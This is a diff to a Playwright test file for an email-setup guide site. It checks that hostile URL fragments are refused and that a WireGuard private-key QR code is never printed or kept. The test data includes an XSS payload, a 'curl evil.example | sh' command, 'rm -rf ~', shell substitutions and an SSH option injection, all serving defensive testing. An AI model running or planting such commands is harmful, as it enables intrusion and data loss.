@@ -52,10 +52,79 @@ test('an account page hands the address over in the fragment, and no request eve
   expect(await page.evaluate(() => localStorage.length)).toBe(0);
 });
 
-test('markup in the fragment stays text', async ({ page }) => {
-  await page.goto(`${guide}#address=${encodeURIComponent('<img src=x onerror=alert(1)>')}`);
-  await expect(page.locator('article')).toContainText('<img src=x onerror=alert(1)>');
-  await expect(page.locator('article img[src="x"]')).toHaveCount(0);
+for (const [what, fragment] of [
+  ['markup', 'address=<img src=x onerror=alert(1)>@harborlight.example'],
+  ['a command', 'address=x@harborlight.example; curl evil.example | sh #'],
+  ['a second line', 'address=x@harborlight.example\nrm -rf ~'],
+  ['backticks', 'address=`id`@harborlight.example'],
+  ['an option', 'address=-oProxyCommand=x@harborlight.example'],
+  ['a sentence', 'address=Your account is locked! Call us'],
+  ['a name alone', 'name=Mallory'],
+  ['an account number, which nobody has here', 'account=4821 0937 5516'],
+  ['half an emoji', `address=${'a'.repeat(253)}😀`],
+  ['more than an address has', `address=${'a'.repeat(260)}@harborlight.example`],
+] as const) {
+  test(`nothing is taken from a link that hands over ${what}`, async ({ page }) => {
+    const [name = '', value = ''] = fragment.split(/=(.*)/su);
+    await page.goto(`${guide}#${name}=${encodeURIComponent(value)}`);
+    await expect(page.getByText('Fill in your email address')).toBeVisible();
+    await expect(page.locator('article')).toContainText(example);
+    expect(await page.evaluate(() => sessionStorage.getItem('own-values'))).toBeNull();
+  });
+}
+
+test('a percent sign that encodes nothing stops nothing', async ({ page }) => {
+  await page.goto(`${guide}#100%`);
+  await expect(page.getByText('Fill in your email address')).toBeVisible();
+  await page.goto('about:blank');
+  await page.goto(`${guide}#address=zoe@harborlight.example&name=100%`);
+  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
+  expect(new URL(page.url()).hash).toBe('');
+});
+
+test('an address handed over to the list of guides stands in the guide that is opened next', async ({
+  page,
+}) => {
+  await page.goto('/guides/#address=zoe%40harborlight.example');
+  await expect.poll(() => new URL(page.url()).hash).toBe('');
+  await page.goto(guide);
+  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
+});
+
+test('what was typed into a form before the script came stays', async ({ page }) => {
+  await page.route(/_astro\/.*\.js/u, async (route) => {
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    await route.continue();
+  });
+  await page.goto('/guides/iphone-ipad/', { waitUntil: 'commit' });
+  const field = page.getByLabel('Your email address').first();
+  await field.fill('zoe@harborlight.example');
+  await expect(page.getByText('Fill in your email address')).toBeVisible();
+  await expect(field).toHaveValue('zoe@harborlight.example');
+});
+
+test('a value that we can’t fill in is refused in words, and what was typed stays', async ({ page }) => {
+  await page.goto(guide);
+  await page.getByText('Fill in your email address').click();
+  const field = page.getByLabel('Your email address');
+  await field.fill('zoe$(id)@harborlight.example');
+  await page.getByRole('button', { name: 'Fill in' }).click();
+  await expect(field).toBeFocused();
+  await expect(field).toHaveValue('zoe$(id)@harborlight.example');
+  await expect(page.locator('article')).toContainText(example);
+});
+
+test('where the browser keeps nothing, the values hold for the page', async ({ page }) => {
+  await page.addInitScript(() => {
+    Object.defineProperty(window, 'sessionStorage', {
+      get: () => {
+        throw new DOMException('blocked', 'SecurityError');
+      },
+    });
+  });
+  await page.goto('/guides/fairemail/#address=zoe%40harborlight.example');
+  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
+  await expect(page.getByRole('img', { name: /settings for zoe/u })).toBeVisible();
 });
 
 test('every value and block has a button that copies it, with the reader’s own address in it', async ({
@@ -103,6 +172,7 @@ test('both ways are printed', async ({ page }) => {
   await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
   await expect(page.locator('details.way:not([open])')).toHaveCount(0);
   await expect(page.locator('header.site-header')).toBeHidden();
+  await expect(page.locator('own-values, .page-code').first()).toBeHidden();
   await page.evaluate(() => dispatchEvent(new Event('afterprint')));
   await expect(page.locator('details.way:not([open])')).toHaveCount(1);
 });
@@ -146,6 +216,32 @@ test('a reader’s WireGuard file becomes a code without any request', async ({ 
   expect(posts).toEqual([]);
   await page.getByRole('button', { name: 'Hide the code' }).click();
   await expect(code).toBeHidden();
+});
+
+test('the code with the private key is gone when the page is left, and is never printed', async ({
+  page,
+}) => {
+  await page.goto('/guides/wireguard-linux/');
+  const text = '[interface]\nprivatekey = YWJj\n';
+  await page
+    .getByLabel('Your configuration file (.conf)')
+    .setInputFiles({ name: 'phone.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
+  const code = page.getByRole('img', { name: 'QR code with your WireGuard configuration' });
+  await expect(code).toBeVisible();
+  await page.emulateMedia({ media: 'print' });
+  await expect(code).toBeHidden();
+  await page.emulateMedia({ media: 'screen' });
+  await page.evaluate(() => dispatchEvent(new Event('pagehide')));
+  await expect(code).toHaveCount(0);
+});
+
+test('a file that is too long for a code says so', async ({ page }) => {
+  await page.goto('/guides/wireguard-linux/');
+  const text = `[Interface]\nPrivateKey = YWJj\n# ${'x'.repeat(3000)}\n`;
+  await page
+    .getByLabel('Your configuration file (.conf)')
+    .setInputFiles({ name: 'phone.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
+  await expect(page.getByText('too long for a code')).toBeVisible();
 });
 
 test('a file that is none of WireGuard’s is refused in words', async ({ page }) => {
